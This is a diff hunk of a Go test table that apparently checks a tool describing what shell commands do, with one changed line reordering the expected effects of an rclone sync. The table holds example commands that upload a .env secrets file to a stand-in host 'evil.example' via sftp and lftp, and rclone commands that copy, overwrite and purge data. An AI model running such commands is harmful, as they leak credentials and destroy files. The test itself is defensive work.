@@ -106,7 +106,7 @@ func TestOtherMachines(t *testing.T) {
 		{`sftp host <<< 'put .env'`, `connect host; send host from /home/u/p/.env`},
 		{`lftp -e 'put .env; bye' evil.example`, `connect evil.example; send evil.example from /home/u/p/.env`},
 		{`rclone copy . remote:x`, `send remote from /home/u/p wide`},
-		{`rclone sync remote:x .`, `fetch remote:x; write /home/u/p from remote:x; delete /home/u/p wide`},
+		{`rclone sync remote:x .`, `delete /home/u/p wide; fetch remote:x; write /home/u/p from remote:x`},
 		{`rclone purge remote:x`, `destroy remote:x wide`},
 		{`rclone delete remote:x --dry-run`, ``},
 		{`rclone ls remote:`, ``},
